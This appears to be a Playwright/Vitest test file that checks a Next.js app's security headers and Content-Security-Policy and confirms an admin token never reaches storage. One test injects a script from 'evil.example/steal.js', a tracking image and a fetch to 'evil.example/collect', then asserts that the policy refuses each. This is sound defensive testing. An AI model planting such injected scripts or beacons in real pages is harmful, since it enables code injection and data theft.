/**
 * Security headers (issue 19, item 9; docs/security.md): a page, a route handler, a Next static file and
 * the app icon all carry them, and no answer says X-Powered-By. Under the policy a page runs with no CSP
 * report in the console, draws its charts, moves to another page without a reload, and its PNG and SVG export
 * links still download, while a script or an image from another origin put into the page is refused. The
 * admin token is kept in memory only: not in Web Storage, not in the input's value attribute, gone after a reload.
 */
import { readFile } from 'node:fs/promises';
import type { Page } from 'playwright-core';
import { afterAll, describe, expect, inject, it } from 'vitest';
import { appURL, closeBrowser, openPage, screenshot } from './browser';
import { expectChartsDrawn, waitForHydration } from './page-ready';

const FIXED = {
  'x-frame-options': 'DENY',
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'cross-origin-opener-policy': 'same-origin',
};
const PNG_SIGNATURE = [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a];

/** The directives of a Content-Security-Policy value, by name. */
function directives(policy: string | null): Record<string, string> {
  expect(policy, 'Content-Security-Policy').toBeTruthy();
  return Object.fromEntries(
    policy!
      .split(';')
      .map((d) => d.trim().split(/\s+/))
      .map(([name, ...values]) => [name, values.join(' ')]),
  );
}

/** Asserts the headers every answer carries, and returns its policy's directives. */
function expectSecurityHeaders(response: Response, what: string): Record<string, string> {
  expect(response.status, what).toBe(200);
  for (const [name, value] of Object.entries(FIXED)) expect(response.headers.get(name), `${what}: ${name}`).toBe(value);
  expect(response.headers.get('permissions-policy'), what).toMatch(/camera=\(\)/);
  expect(response.headers.get('x-powered-by'), what).toBeNull();
  const csp = directives(response.headers.get('content-security-policy'));
  expect(csp, what).toMatchObject({
    'default-src': "'self'",
    'connect-src': "'self'",
    'object-src': "'none'",
    'base-uri': "'self'",
    'form-action': "'self'",
    'frame-ancestors': "'none'",
  });
  return csp;
}

/**
 * Console lines about the Content Security Policy, of any level, from a fresh load of the page on: the
 * first load is over before a listener can be added (openPage returns after it).
 */
async function reloadWatchingCsp(page: Page): Promise<string[]> {
  const reports: string[] = [];
  page.on('console', (m) => {
    if (m.text().includes('Content Security Policy')) reports.push(m.text());
  });
  await page.reload({ waitUntil: 'load' });
  return reports;
}

describe('security headers', () => {
  afterAll(closeBrowser);

  it('a page, a route handler, a static file and the icon carry the headers; none says X-Powered-By', async () => {
    const page = await fetch(appURL('/compare'));
    expect(expectSecurityHeaders(page, 'page')['script-src']).toBe("'self' 'unsafe-inline'");
    const html = await page.text();

    const api = await fetch(appURL('/api/chart?chart=trend&format=svg'));
    expect(expectSecurityHeaders(api, 'route handler')['script-src']).toBe("'self'");

    const chunk = /<script\b[^>]*\bsrc="(\/_next\/static\/[^"]+\.js)"/.exec(html)?.[1];
    expect(chunk, 'a /_next/static script in the page').toBeTruthy();
    const asset = await fetch(appURL(chunk!));
    expect(expectSecurityHeaders(asset, 'static file')['script-src']).toBe("'self'");
    expect(asset.headers.get('content-type')).toMatch(/javascript/);

    expectSecurityHeaders(await fetch(appURL('/icon.svg')), 'icon');
  });

  it('the overview runs under the policy: no CSP report, charts drawn, client navigation, PNG and SVG exports', async () => {
    const { page, problems } = await openPage('/');
    const reports = await reloadWatchingCsp(page);
    await expectChartsDrawn(page, 1);
    await screenshot(page, 'security-overview');

    const [png] = await Promise.all([
      page.waitForEvent('download'),
      page.locator('a[data-export="png"]').first().click(),
    ]);
    expect(await png.failure()).toBeNull();
    expect([...(await readFile((await png.path())!)).subarray(0, 8)]).toEqual(PNG_SIGNATURE);
    const [svg] = await Promise.all([
      page.waitForEvent('download'),
      page.locator('a[data-export="svg"]').first().click(),
    ]);
    expect(await svg.failure()).toBeNull();
    expect(await readFile((await svg.path())!, 'utf8')).toMatch(/<svg[\s>]/);

    // A link in the top bar loads the next page's code as new scripts from the app itself.
    const compare = page.locator('header a[href^="/compare"]').first();
    await waitForHydration(compare);
    await compare.click();
    await page.waitForURL(/\/compare/);
    await expectChartsDrawn(page, 1);
    expect(await page.evaluate(() => performance.getEntriesByType('navigation').length)).toBe(1);

    expect(reports).toEqual([]);
    expect(problems).toEqual([]);

    // What the policy is for: markup that found its way into the page loads no code from elsewhere and
    // sends nothing away (a script and an image from another origin, a fetch to it).
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/steal.js';
      document.body.append(script);
      document.body.insertAdjacentHTML('beforeend', '<img src="https://evil.example/pixel.png">');
      fetch('https://evil.example/collect').catch(() => {});
    });
    // Chromium may report one refusal twice (a fetch: once as the request, once as the failed promise).
    await expect.poll(() => reports.length).toBeGreaterThanOrEqual(3);
    expect(reports.join('\n')).toMatch(/Loading the script 'https:\/\/evil\.example\/steal\.js' violates/);
    expect(reports.join('\n')).toMatch(/Loading the image 'https:\/\/evil\.example\/pixel\.png' violates/);
    expect(reports.join('\n')).toMatch(/Connecting to 'https:\/\/evil\.example\/collect' violates/);
  });

  it('an unknown address answers 404 with the headers and no CSP report', async () => {
    const { page, response, problems } = await openPage('/no-such-page');
    expect(response?.status()).toBe(404);
    expect(response?.headers()['x-frame-options']).toBe('DENY');
    const reports = await reloadWatchingCsp(page);
    // The page's scripts ran: React hydrated the top bar.
    await waitForHydration(page.locator('header a').first());
    expect(reports).toEqual([]);
    // The 404 of the document itself is the only problem.
    expect(problems.filter((p) => !p.includes('/no-such-page'))).toEqual([]);
  });

  it('the admin token stays in memory: not in Web Storage or the value attribute, gone after a reload', async () => {
    const { page, problems } = await openPage('/import');
    const reports = await reloadWatchingCsp(page);
    const token = page.locator('input[type="password"]');
    await waitForHydration(token);
    await token.fill(inject('adminToken'));
    const stored = () =>
      page.evaluate(() => JSON.stringify([{ ...sessionStorage }, { ...localStorage }, document.cookie]));
    await expect(stored()).resolves.toBe('[{},{},""]');
    await expect(token.getAttribute('value')).resolves.toBeNull();
    await expect(token.inputValue()).resolves.toBe(inject('adminToken'));
    await page.reload();
    await waitForHydration(page.locator('input[type="password"]'));
    await expect(page.locator('input[type="password"]').inputValue()).resolves.toBe('');
    expect(reports).toEqual([]);
    expect(problems).toEqual([]);
  });
});
